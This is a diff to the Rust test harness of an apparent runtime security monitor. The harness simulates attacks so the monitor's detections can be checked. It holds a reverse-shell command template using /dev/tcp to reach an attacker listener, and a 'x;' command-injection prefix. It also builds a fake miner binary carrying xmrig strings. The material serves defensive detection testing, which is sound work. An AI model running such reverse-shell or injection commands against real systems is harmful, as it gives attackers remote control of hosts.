@@ -28,6 +28,9 @@ pub enum Arrival {
     /// Commands typed into a reverse shell (`bash -i >& /dev/tcp/...`) opened by an injection, to a
     /// listener of the attacker's (`{lport}`).
     ReverseShell(&'static str),
+    /// An injected command that connects to a listener of the attacker's (`{lport}`: any free port
+    /// when `port` is 0, else `port` plus a per-suite offset), which sends `typed` (and `exit`).
+    Connect { inject: &'static str, typed: &'static str, port: u16 },
 }
 
 /// What the attacker's server hands out as a tool.
@@ -39,12 +42,14 @@ pub enum Tool {
     Shell(&'static str),
     /// /bin/true with a miner's configuration strings appended (YARA: miner_xmrig_family).
     Miner(&'static str),
+    /// The test fixture program (`rw-fixture`, static, built beside runwarden).
+    Fixture(&'static str),
 }
 
 impl Tool {
     pub fn name(self) -> &'static str {
         match self {
-            Tool::True(n) | Tool::Shell(n) | Tool::Miner(n) => n,
+            Tool::True(n) | Tool::Shell(n) | Tool::Miner(n) | Tool::Fixture(n) => n,
         }
     }
 
@@ -57,6 +62,12 @@ impl Tool {
                 let mut b = std::fs::read("/bin/true").unwrap();
                 b.extend_from_slice(b"xmrig 6.21 --donate-level 1 randomx");
                 b
+            }
+            Tool::Fixture(_) => {
+                let path = std::path::Path::new(env!("CARGO_BIN_EXE_runwarden")).with_file_name("rw-fixture");
+                std::fs::read(&path).unwrap_or_else(|e| {
+                    panic!("{}: {e} (run the tests with `cargo test --workspace`)", path.display())
+                })
             }
         }
     }
@@ -183,16 +194,49 @@ pub fn injected_command(row: &Scenario, vars: &Vars) -> Option<String> {
             )
         }
         Arrival::ReverseShell(_) => "bash -c 'bash -i >& /dev/tcp/{gw}/{lport} 0>&1'".to_string(),
+        Arrival::Connect { inject, .. } => inject.to_string(),
         Arrival::Fetched(_) => return None,
     };
     Some(format!("x;{}", vars.fill(&cmd)))
 }
 
-/// What the attacker types into the reverse shell of a `ReverseShell` row.
+/// What the attacker's listener sends a row that connects to it (`ReverseShell`, `Connect`).
 pub fn typed_commands(row: &Scenario) -> Option<&'static str> {
     match row.arrival {
-        Arrival::ReverseShell(c) => Some(c),
+        Arrival::ReverseShell(c) | Arrival::Connect { typed: c, .. } => Some(c),
         _ => None,
+    }
+}
+
+/// The port the attacker's listener for `row` must use (0: any), before the suite's offset.
+pub fn listener_port(row: &Scenario) -> u16 {
+    match row.arrival {
+        Arrival::Connect { port, .. } => port,
+        _ => 0,
+    }
+}
+
+/// The sensor a rule's findings come from, by the rule's event kind in policies/rules/*.yaml.
+pub fn expected_sensor(rule: &str) -> &'static str {
+    static EVENTS: std::sync::OnceLock<std::collections::HashMap<String, String>> =
+        std::sync::OnceLock::new();
+    let events = EVENTS.get_or_init(|| {
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/rules");
+        let mut m = std::collections::HashMap::new();
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
+            let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&text).unwrap();
+            for r in doc["rules"].as_sequence().into_iter().flatten() {
+                let (id, event) = (r["id"].as_str().unwrap_or(""), r["event"].as_str().unwrap_or("exec"));
+                m.insert(id.to_string(), event.to_string());
+            }
+        }
+        m
+    });
+    match events.get(rule).map(String::as_str) {
+        Some("file") => "inotify",
+        Some("exec") | None => "ptrace",
+        Some(_) => "scanner",
     }
 }
 
@@ -281,12 +325,11 @@ pub fn check(
         if f["description"].as_str().unwrap_or("").is_empty() {
             wrong("description missing", &f["description"]);
         }
-        let file_rule = row.rule.starts_with("file_");
-        let sensor = if file_rule { "inotify" } else { "ptrace" };
+        let sensor = expected_sensor(row.rule);
         if f["sourceProperties"]["sensor"] != sensor {
             wrong(&format!("sensor should be {sensor}"), &f["sourceProperties"]);
         }
-        if !file_rule {
+        if sensor != "inotify" {
             let sha = f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("");
             if sha.len() != 64 {
                 wrong("binary sha256 missing", &f["processes"][0]["binary"]);
